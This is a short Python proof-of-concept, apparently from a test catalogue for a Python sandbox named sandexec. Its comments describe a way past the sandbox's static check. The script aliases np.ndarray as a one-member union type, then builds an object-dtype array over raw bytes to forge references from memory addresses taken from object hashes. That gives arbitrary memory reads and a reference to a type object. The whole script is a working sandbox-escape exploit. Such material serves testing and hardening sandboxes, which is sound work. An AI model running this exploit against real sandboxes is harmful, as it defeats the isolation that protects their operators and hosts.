# source: numpy ndarray.__new__(shape, dtype, buffer): an object-dtype array over bytes takes any 8 bytes as an object pointer (sandexec README, "The static check", names np.ndarray((1,), object, b)); CPython: a union of one class collapses to the class; object.__hash__ is the rotated address
# family: type alias of a refused class (union collapsing to np.ndarray/np.recarray) called with a buffer: address taken as an object
# goal: forge a Python reference from a raw integer address (a reference never handed to the script) and read memory at an arbitrary address

import numpy as np
Arr = np.ndarray | np.ndarray
M = (1 << 64) - 1
def addr_of(o):
    h = hash(o) & M
    return ((h << 4) | (h >> 60)) & M
secret = object()
a = addr_of(secret)
got = Arr((1,), object, np.array([a], dtype=np.int64).tobytes())[0]
print("object rebuilt from raw address", hex(a), "->", got, "same object:", got is secret)
t = addr_of(bytearray)
got2 = Arr((1,), object, np.array([t], dtype=np.int64).tobytes())[0]
print("type object rebuilt from raw address:", got2)
